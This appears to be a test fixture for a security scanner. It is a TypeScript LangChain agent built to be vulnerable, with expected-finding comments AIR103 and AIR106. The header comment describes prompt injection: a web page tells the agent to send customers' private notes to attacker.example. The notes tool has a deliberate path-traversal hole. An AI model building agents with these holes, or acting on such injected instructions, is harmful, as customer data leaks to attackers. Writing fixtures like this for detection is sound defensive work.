// case: AIR103 vulnerable. An account-research agent fetches any web page the model names
// (a `StructuredTool` subclass) and reads the private account notes of customers from disk:
// a page can tell it to fetch https://attacker.example/?q=<notes>. No tool is privileged on
// its own; the combination is the lethal trifecta.
import { StructuredTool, tool } from "@langchain/core/tools";
import { createReactAgent } from "@langchain/langgraph/prebuilt";
import { ChatAnthropic } from "@langchain/anthropic";
import { readFile } from "node:fs/promises";
import * as path from "node:path";
import { z } from "zod";

class FetchPageTool extends StructuredTool {
  name = "fetch_page";
  description = "Fetch a web page and return its text";
  schema = z.object({ url: z.string().url() });

  async _call({ url }: { url: string }) {
    const res = await fetch(url);  // expect: AIR106
    return await res.text();
  }
}

const readNotes = tool(
  // the customer name is joined into the path as is: `../` leaves the notes folder
  async ({ customer }) => readFile(path.join("/srv/crm/notes", `${customer}.md`), "utf8"), // expect: AIR106
  { name: "read_account_notes", description: "Read a customer's account notes", schema: z.object({ customer: z.string() }) },
);

// expect: AIR103
export const researcher = createReactAgent({
  llm: new ChatAnthropic({ model: "claude-sonnet-4-5" }),
  tools: [new FetchPageTool(), readNotes],
  prompt: "Research the customer's company on the web and summarise their account.",
});
